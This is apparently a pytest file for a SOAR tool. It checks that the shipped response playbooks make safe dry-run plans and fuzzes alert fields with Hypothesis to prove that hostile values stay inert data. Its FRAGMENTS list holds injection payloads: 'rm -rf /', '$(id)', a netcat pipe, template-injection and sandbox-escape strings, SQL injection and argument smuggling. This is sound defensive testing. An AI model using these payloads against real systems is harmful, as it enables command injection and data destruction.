"""The shipped playbooks: a dry-run plan each through the CLI (real registry, hosts and Slack actions, policy),
and hostile alert fields through every plan (Hypothesis): values are data, never templates, never unquoted."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from soar.config import load_settings
from soar.playbooks.engine import plan
from soar.playbooks.runtime import Runtime
from tests.conftest import REPO_ROOT, env_without_soar
from tests.playbook_kit import INVENTORY

SAFE_ARG = re.compile(r"^[A-Za-z0-9_@%+=:,./-]*$")  # needs no shell quoting at all

CASES = {
    "ssh-brute-force": ("981dc82e-6b2f-4d0c-b0de-77535ef0828b", "high", "dev1"),
    "compromised-account": ("0f4bb2ec-adc1-48e7-94e3-1883ff4c08aa", "high", "dev1"),
    "reverse-shell": ("2c81765a-9722-47d8-839c-e2a61d09d841", "critical", "web1"),
    "persistence": ("1f9ec60a-e1d4-4dd4-8396-5f73ee9a6d16", "medium", "dev1"),
}


def _alert(rule_id: str, level: str, host: str, user: str = "alice", ip: str = "203.0.113.7") -> dict[str, Any]:
    tags = ["attack.persistence", "attack.t1053.003"] if level == "medium" else ["attack.t1110"]
    return {
        "id": f"alert-{rule_id[:8]}",
        "@timestamp": "2026-11-28T12:00:00.000Z",
        "rule": {"id": rule_id, "title": "Shipped rule", "level": level, "tags": tags},
        "severity": level,
        "host": {"name": host},
        "user": {"name": user},
        "source": {"ip": ip},
    }


@pytest.fixture(scope="module")
def inventory(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("inv") / "inventory.yml"
    path.write_text(INVENTORY, encoding="utf-8")
    return path


@pytest.mark.parametrize("name", sorted(CASES))
def test_plan_of_each_shipped_playbook_through_the_cli(name: str, inventory: Path, tmp_path: Path) -> None:
    rule_id, level, host = CASES[name]
    alert_file = tmp_path / "alert.json"
    alert_file.write_text(json.dumps(_alert(rule_id, level, host)), encoding="utf-8")
    state = tmp_path / "state"
    env = {**env_without_soar(), "SOAR_INVENTORY_FILE": str(inventory), "SOAR_STATE_DIR": str(state)}
    proc = subprocess.run(
        [sys.executable, "-m", "soar", "playbooks", "plan", name, "--alert", str(alert_file), "--json"],
        cwd=REPO_ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    result = json.loads(proc.stdout)
    assert result["matches_trigger"] is True
    steps = {s["id"]: s for s in result["steps"]}
    assert all(s["status"] in ("planned", "skipped") for s in steps.values()), steps
    assert not state.exists()  # a dry run touches nothing, not even the local store
    notify = steps["notify"]["instances"][0]
    assert notify["policy"]["outcome"] == "allow" and host in notify["params"]["text"]
    if name == "ssh-brute-force":
        block = steps["block"]["instances"][0]
        assert block["params"] == {
            "host": "dev1", "ip": "203.0.113.7", "expire_seconds": 86400, "backend": None, "persist": True
        }  # fmt: skip
        assert any("--persist" in c["argv"] for c in block["commands"])
        assert block["policy"]["outcome"] == "allow"
        assert any("203.0.113.7" in c["argv"] and c["host"] == "dev1" for c in block["commands"])
    elif name == "compromised-account":
        assert steps["lock"]["instances"][0]["commands"] and steps["kill_sessions"]["instances"][0]["commands"]
        assert any("alice" in c["argv"] for c in steps["lock"]["instances"][0]["commands"])
    elif name == "reverse-shell":
        iso = steps["isolate"]["instances"][0]
        assert iso["policy"]["outcome"] == "approve"  # env=prod
        assert "isolation-in-production" in iso["policy"]["reasons"][0]
        assert iso["commands"][0]["host"] == "web1" and "--mgmt" in iso["commands"][0]["argv"]
        assert steps["triage"]["instances"][0]["policy"]["outcome"] == "allow"
    else:
        assert steps["triage"]["instances"][0]["commands"]
    text = subprocess.run(
        [sys.executable, "-m", "soar", "playbooks", "plan", name, "--alert", str(alert_file)],
        cwd=REPO_ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert text.returncode == 0 and f"[{host}] " in text.stdout  # exact commands per host


def test_plan_on_a_protected_or_unknown_host_says_why(inventory: Path, tmp_path: Path) -> None:
    settings = load_settings(content_root=REPO_ROOT, inventory_file=inventory, state_dir=tmp_path / "s")
    rt = Runtime.build(settings, store=_NoStore())
    out = plan(rt, rt.playbook("reverse-shell"), _alert(CASES["reverse-shell"][0], "critical", "bastion-1"))
    iso = out["steps"][0]["instances"][0]
    assert iso["policy"]["outcome"] == "refuse" and "bastion-1 is protected" in iso["policy"]["reasons"][0]
    out = plan(rt, rt.playbook("ssh-brute-force"), _alert(CASES["ssh-brute-force"][0], "high", "nowhere"))
    block = out["steps"][0]["instances"][0]
    assert block["commands"] == [] and "matches no host in the inventory" in block["dry_run_error"]


class _NoStore:
    def __getattr__(self, name: str) -> Any:
        raise AssertionError(f"a plan used the store ({name})")


# -- hostile alert fields ----------------------------------------------------------------------------------------

FRAGMENTS = [
    "; rm -rf / #",
    "$(id)",
    "`id`",
    "| nc 10.0.0.1 4444",
    "&& reboot",
    "\n",
    "\r\n",
    "' OR '1'='1",
    '"',
    "{{ 7*7 }}",
    "{% for x in range(9) %}EVAL{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ alert }}",
    "{#",
    "}}",
    "..",
    "/etc/passwd",
    "-rf",
    "--mgmt 0.0.0.0/0",
    "web1",
    "203.0.113.7",
    "ü",
    "日本",
    "\u202e",
    "\x00",
    "A" * 5000,
]
hostile = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=40)), min_size=1, max_size=4).map("".join)
maybe_valid_host = st.one_of(st.just("dev1"), st.just("web1"), hostile)


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def _params(result: dict[str, Any]) -> dict[str, Any]:
    return {i["key"]: i["params"] for s in result["steps"] for i in s.get("instances", [])}


@pytest.fixture(scope="module")
def shipped_runtime(inventory: Path, tmp_path_factory: pytest.TempPathFactory) -> Runtime:
    settings = load_settings(
        content_root=REPO_ROOT, inventory_file=inventory, state_dir=tmp_path_factory.mktemp("state") / "s"
    )
    return Runtime.build(settings, store=_NoStore())


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_alert_fields_are_data_never_templates_never_unquoted(name: str, shipped_runtime: Runtime) -> None:
    rule_id, level, _ = CASES[name]
    pb = shipped_runtime.playbook(name)

    @hsettings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck))
    @given(host=maybe_valid_host, user=hostile, ip=hostile, title=hostile)
    def check(host: str, user: str, ip: str, title: str) -> None:
        bad = _alert(rule_id, level, host, user, ip)
        bad["rule"]["title"] = title
        result = plan(shipped_runtime, pb, bad)
        # the same plan with inert placeholders, then the hostile values put back as plain text:
        # identical parameters prove every value went in verbatim, evaluated by nothing
        marks = {"host": "PHHOST", "user": "PHUSER", "ip": "PHIP", "title": "PHTITLE"}
        ref = _alert(
            rule_id, level, marks["host"] if host not in ("dev1", "web1") else host, marks["user"], marks["ip"]
        )
        ref["rule"]["title"] = marks["title"]
        reference = plan(shipped_runtime, pb, ref)
        values = {"host": host, "user": user, "ip": ip, "title": title}
        got, want = _params(result), _params(reference)
        for key, params in want.items():
            if key not in got:
                continue
            expected = json.loads(json.dumps(params))
            text = json.dumps(expected)
            for field, mark in marks.items():
                text = text.replace(mark, json.dumps(values[field])[1:-1])
            assert got[key] == json.loads(text), (key, got[key])
        for step in result["steps"]:
            for inst in step.get("instances", []):
                for cmd in inst["commands"]:
                    for arg in cmd["argv"]:
                        assert SAFE_ARG.match(arg), f"{step['id']}: unsafe argument {arg!r} would reach a shell"
                if inst["policy"]["outcome"] != "refuse" and step.get("impact") in ("contain", "destructive"):
                    for s in _strings(inst["params"]):
                        if s not in ("dev1", "web1"):
                            assert not inst["commands"] or SAFE_ARG.match(s), s

    check()
